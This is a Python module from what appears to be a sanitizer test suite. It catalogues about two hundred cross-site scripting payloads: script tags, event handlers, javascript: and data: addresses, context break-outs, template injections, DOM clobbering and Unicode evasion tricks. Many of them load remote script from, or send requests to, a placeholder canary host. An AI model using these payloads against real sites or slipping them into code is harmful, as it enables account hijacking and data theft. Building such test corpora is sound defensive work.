"""Markup, addresses, styles and texts that run something, or ask somebody, where they are taken for what they say.

``NUM`` becomes the payload's number, which ``alert`` says when it runs; ``CANARY`` a host that counts its callers.
"""

from __future__ import annotations

from tests.attacks.payloads.xss_parsing import MUTATIONS, STYLES

_SCRIPTS = r"""
<script>alert(NUM)</script>
<ScRiPt>alert(NUM)</sCrIpT>
<script/x>alert(NUM)</script/x>
<script src="http://CANARY/NUM/s.js"></script>
<script src=data:text/javascript,alert(NUM)></script>
<script type=module>alert(NUM)</script>
<script type=module src="http://CANARY/NUM/m.js"></script>
<script>fetch("http://CANARY/NUM/fetch");new Image().src="http://CANARY/NUM/img"</script>
<svg><script>alert(NUM)</script></svg>
<svg><script href="data:text/javascript,alert(NUM)"/></svg>
<svg><script>alert&#40;NUM&#41;</script></svg>
<svg><script xlink:href="data:text/javascript,alert(NUM)"></script></svg>
<math><mtext><script>alert(NUM)</script></mtext></math>
<scr<script>ipt>alert(NUM)</scr</script>ipt>
<script>alert(NUM)//
<script src="//CANARY/NUM/s.js"
<<script>alert(NUM)//<</script>
<script type="importmap">{"imports":{"x":"http://CANARY/NUM/x.js"}}</script><script type=module>import "x";</script>
<link rel=preload as=script href="http://CANARY/NUM/p.js">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://CANARY/NUM/spec"]}]}</script>
"""

_EVENTS = r"""
<img src=x onerror=alert(NUM)>
<img src=x onerror="alert(NUM)">
<img/src=x/onerror=alert(NUM)>
<img src=x ONERROR = alert(NUM) >
<IMG "\""><script>alert(NUM)</script>">
<IMG '''><script>alert(NUM)</script>'>
<img src=x:x onerror=alert`NUM`>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;NUM&#41;>
<img src=x onerror=\u0061lert(NUM)>
<img src=x onerror="&#x0000061;lert(NUM)">
<svg onload=alert(NUM)>
<svg/onload=alert(NUM)//
<svg><g onload=alert(NUM)></g></svg>
<body onload=alert(NUM)>
<body onpageshow=alert(NUM)>
<iframe onload=alert(NUM)></iframe>
<object onerror=alert(NUM) data=x:y></object>
<video src=x onerror=alert(NUM)></video>
<video><source onerror=alert(NUM) src=x></video>
<audio src=x onerror=alert(NUM)>
<details open ontoggle=alert(NUM)>x</details>
<input autofocus onfocus=alert(NUM)>
<select autofocus onfocus=alert(NUM)></select>
<textarea autofocus onfocus=alert(NUM)></textarea>
<button autofocus onfocus=alert(NUM)>x</button>
<a href=# onfocus=alert(NUM) autofocus tabindex=1>x</a>
<div tabindex=1 autofocus onfocusin=alert(NUM)>x</div>
<marquee onstart=alert(NUM)>x</marquee>
<button onclick=alert(NUM)>x</button>
<div onmouseover=alert(NUM)>x</div>
<div onpointerenter=alert(NUM)>x</div>
<nav onclick="alert(NUM)">x</nav>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(NUM)>x</b>
<style>@keyframes y{from{left:0}to{left:1px}}</style><i style="animation:y 1ms" onanimationend="alert(NUM)">x</i>
<b style="transition:color 1ms" ontransitionend=alert(NUM)>x</b>
<svg><animate onbegin=alert(NUM) attributeName=x dur=1s></svg>
<svg><animate attributeName=x dur=1ms onend=alert(NUM)></svg>
<svg><set onbegin=alert(NUM) attributeName=x to=y></svg>
<svg><animateTransform onbegin=alert(NUM) attributeName=transform /></svg>
<svg><animateMotion onbegin="alert(NUM)" dur=1s /></svg>
<svg><image href=x onerror=alert(NUM) /></svg>
<svg><a onclick=alert(NUM)><text y=20>x</text></a></svg>
<math><mi onclick=alert(NUM)>x</mi></math>
<math onmouseover=alert(NUM)><mtext>x</mtext></math>
<x-element onclick=alert(NUM)>x</x-element>
<xss onpointerover=alert(NUM)>x</xss>
<form oninput=alert(NUM)><input></form>
<dialog open oncancel=alert(NUM)>x</dialog>
<div popover id=pNUM onbeforetoggle=alert(NUM)>x</div><button popovertarget=pNUM>x</button>
<link rel=stylesheet href="data:text/css,x" onload=alert(NUM)>
<style onload=alert(NUM)>b{}</style>
<img src=x __proto__=x constructor=y onerror=alert(NUM)>
<div __proto__[innerHTML]="<img src=x onerror=alert(NUM)>">x</div>
<custom-element is="x-y" onclick=alert(NUM)>x</custom-element>
"""

_ADDRESSES = r"""
<a href="javascript:alert(NUM)">x</a>
<a href="JaVaScRiPt:alert(NUM)">x</a>
<a href=" javascript:alert(NUM)">x</a>
<a href="java&Tab;script:alert(NUM)">x</a>
<a href="java&NewLine;script:alert(NUM)">x</a>
<a href="&#1;javascript:alert(NUM)">x</a>
<a href="javascript&colon;alert(NUM)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(NUM)">x</a>
<a href="javascript://%0aalert(NUM)">x</a>
<a href="javascript:alert(NUM)" target=_self>x</a>
<a href="data:text/html,<script>alert(NUM)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydChOVU0pPC9zY3JpcHQ+">x</a>
<a href="vbscript:alert(NUM)">x</a>
<a href="http://user:alert(NUM)@CANARY/NUM/user" ping="http://CANARY/NUM/ping">x</a>
<svg><a xlink:href="javascript:alert(NUM)"><text y=20>x</text></a></svg>
<svg><a href="javascript:alert(NUM)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(NUM)" dur=1s fill=freeze /><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:alert(NUM)" /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(NUM)</script></svg>#x" /></svg>
<svg><use href="http://CANARY/NUM/use.svg#x" /></svg>
<svg><image href="http://CANARY/NUM/image.svg" /></svg>
<svg><feImage href="http://CANARY/NUM/feimage.svg" /></svg>
<math><maction actiontype="statusline#http://CANARY" xlink:href="javascript:alert(NUM)">x</maction></math>
<math href="javascript:alert(NUM)"><mi>x</mi></math>
<form action="javascript:alert(NUM)"><button>x</button></form>
<form><button formaction="javascript:alert(NUM)">x</button></form>
<form><input type=submit formaction="javascript:alert(NUM)" value=x></form>
<form><input type=image src=x formaction="javascript:alert(NUM)"></form>
<form id=fNUM></form><button form=fNUM formaction="javascript:alert(NUM)">x</button>
<iframe src="javascript:alert(NUM)"></iframe>
<iframe srcdoc="<script>alert(NUM)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(NUM)&gt;" sandbox="allow-scripts allow-modals allow-same-origin"></iframe>
<iframe src="data:text/html,<script>fetch('http://CANARY/NUM/frame')</script>"></iframe>
<iframe src="http://CANARY/NUM/frame"></iframe>
<frameset><frame src="javascript:alert(NUM)"></frameset>
<object data="javascript:alert(NUM)"></object>
<object data="data:text/html,<script>alert(NUM)</script>"></object>
<object data="http://CANARY/NUM/object"></object>
<embed src="javascript:alert(NUM)">
<embed src="http://CANARY/NUM/embed">
<portal src="http://CANARY/NUM/portal"></portal>
<fencedframe src="http://CANARY/NUM/fenced"></fencedframe>
<base href="javascript:/a/-alert(NUM)//"><a href="#">x</a>
<base href="http://CANARY/NUM/base/"><img src="relative.png">
<meta http-equiv=refresh content="0;url=javascript:alert(NUM)">
<meta http-equiv=refresh content="0;url=http://CANARY/NUM/refresh">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(NUM)</script>">
<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'; report-uri http://CANARY/NUM/report">
<link rel=stylesheet href="http://CANARY/NUM/link.css">
<link rel=prefetch href="http://CANARY/NUM/prefetch"><link rel=icon href="http://CANARY/NUM/icon">
<link rel=import href="http://CANARY/NUM/import">
<img src="http://CANARY/NUM/img.png">
<img srcset="http://CANARY/NUM/srcset.png 1x, http://CANARY/NUM/srcset2.png 2x">
<picture><source srcset="http://CANARY/NUM/source.png"><img src=x></picture>
<video poster="http://CANARY/NUM/poster.png" src="http://CANARY/NUM/video.mp4" autoplay></video>
<audio src="http://CANARY/NUM/audio.mp3" autoplay></audio>
<video><track default src="http://CANARY/NUM/track.vtt"></video>
<input type=image src="http://CANARY/NUM/input.png">
<table background="http://CANARY/NUM/table.png"><tr><td background="http://CANARY/NUM/td.png">x</td></tr></table>
<a href="http://CANARY/NUM/click" target=_top ping="http://CANARY/NUM/ping">x</a>
<img src="http://CANARY\@example.com/NUM/a.png">
<img src="http:\\CANARY\NUM\b.png">
<img src="//CANARY/NUM/c.png">
<img src="hTTp:/CANARY/NUM/d.png">
<img src="http://CAN&#10;ARY/NUM/e.png">
"""  # noqa: E501 - a payload is one line

_BREAKOUTS = r"""
"><script>alert(NUM)</script>
'><script>alert(NUM)</script>
`><script>alert(NUM)</script>
"><img src=x onerror=alert(NUM)>
'"><img src=x onerror=alert(NUM)>
" autofocus onfocus=alert(NUM) x="
' autofocus onfocus=alert(NUM) x='
x onmouseover=alert(NUM) y
" onmouseover="alert(NUM)
</title><script>alert(NUM)</script>
</textarea><script>alert(NUM)</script>
</style><script>alert(NUM)</script>
</script><script>alert(NUM)</script>
</noscript><img src=x onerror=alert(NUM)>
</iframe><img src=x onerror=alert(NUM)>
--><img src=x onerror=alert(NUM)>
]]><img src=x onerror=alert(NUM)>
</pre><img src=x onerror=alert(NUM)>
</option></select><img src=x onerror=alert(NUM)>
*/</style><svg onload=alert(NUM)>
<\/style><img src=x onerror=alert(NUM)>
&lt;img src=x onerror=alert(NUM)&gt;
&amp;lt;img src=x onerror=alert(NUM)&amp;gt;
&#60;script&#62;alert(NUM)&#60;/script&#62;
%3Cscript%3Ealert(NUM)%3C/script%3E
\x3cscript\x3ealert(NUM)\x3c/script\x3e
\u003cimg src=x onerror=alert(NUM)\u003e
+ADw-script+AD4-alert(NUM)+ADw-/script+AD4-
{alert(NUM)}
{{constructor.constructor('alert(NUM)')()}}
${alert(NUM)}
`+alert(NUM)+`
"+alert(NUM)+"
';alert(NUM)//
*/alert(NUM)/*
}</Nav1>{alert(NUM)}<Nav1>{
<div dangerouslySetInnerHTML={{__html:"<img src=x onerror=alert(NUM)>"}} />
"} dangerouslySetInnerHTML={{__html:"<img src=x onerror=alert(NUM)>"}} x={"
"/>{alert(NUM)}<a title="
export default alert(NUM)
#<img src=x onerror=alert(NUM)>
?x="><svg/onload=alert(NUM)>&y=
@CANARY/NUM/userinfo
javascript:alert(NUM)
data:text/html,<script>alert(NUM)</script>
http://CANARY/NUM/text.png
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(NUM) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(NUM)//>
'">><marquee><img src=x onerror=alert(NUM)></marquee></plaintext\></|\><plaintext/onmouseover=alert(NUM)>
"><a id=x><a id=x name=y href="cid:&quot;onerror=alert(NUM)//">
<form id=attributes><input name=attributes><input name=innerHTML><input name=nodeName></form><img src=x onerror=alert(NUM)>
<img name=getElementById><form name=body><input id=parentNode></form><script>alert(NUM)</script>
<a id=defaultView href="javascript:alert(NUM)">x</a><a id=config name=url href="http://CANARY/NUM/clobber">x</a>
"""  # noqa: E501 - a payload is one line

_ODD = (
    "<scr\x00ipt>alert(NUM)</scr\x00ipt>",
    "<script\x00>alert(NUM)</script>",
    "<img src=x \x00onerror=alert(NUM)>",
    "<img src=x onerror\x00=alert(NUM)>",
    "<img\x0csrc=x\x0conerror=alert(NUM)>",
    "<img\tsrc=x\nonerror\r=\nalert(NUM)>",
    "<img\x0bsrc=x onerror=alert(NUM)>",
    '<a href="\x01\x02javascript:alert(NUM)">x</a>',
    '<a href="java\x00script:alert(NUM)">x</a>',
    '<a href="java\tscript:alert(NUM)">x</a>',
    '<a href="java\nscript:alert(NUM)">x</a>',
    '<a href="\u00a0javascript:alert(NUM)">x</a>',
    '<a href="\u2028javascript:alert(NUM)">x</a>',
    '<a href="javascript\u200b:alert(NUM)">x</a>',
    '<a href="\ufeffjavascript:alert(NUM)">x</a>',
    "\uff1cscript\uff1ealert(NUM)\uff1c/script\uff1e",
    "\u02bascript\u02ba><script>alert(NUM)</script>",
    "<\u017fcript>alert(NUM)</\u017fcript>",
    "<img src=x on\u212aeydown=alert(NUM) onerror=alert(NUM)>",
    "\u202e><tpircs/<)MUN(trela>tpircs<\u202c<script>alert(NUM)</script>",
    "<a href='http://example.com/\u202egnp.exe' onclick=alert(NUM)>x</a>",
    "\x1b]0;title\x07\x1b[2J<script>alert(NUM)</script>",
    "<svg><style>\x00<img src=x onerror=alert(NUM)></style></svg>",
    "<img src=x onerror=alert(NUM)\x00>",
    "\ud7ff\ue000<img src=x onerror=alert(NUM)>",
)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line)


KINDS: dict[str, tuple[str, ...]] = {
    "scripts": _lines(_SCRIPTS),
    "events": _lines(_EVENTS),
    "addresses": _lines(_ADDRESSES),
    "styles": _lines(STYLES),
    "mutations": _lines(MUTATIONS),
    "break-outs": _lines(_BREAKOUTS),
    "odd characters": _ODD,
}
"""What kind of trick → the payloads."""

PAYLOADS = tuple(payload for payloads in KINDS.values() for payload in payloads)


def armed(payload: str, number: int, canary: str) -> str:
    """The payload with its number, and the host that its requests would reach."""
    return payload.replace("NUM", str(number)).replace("CANARY", canary)
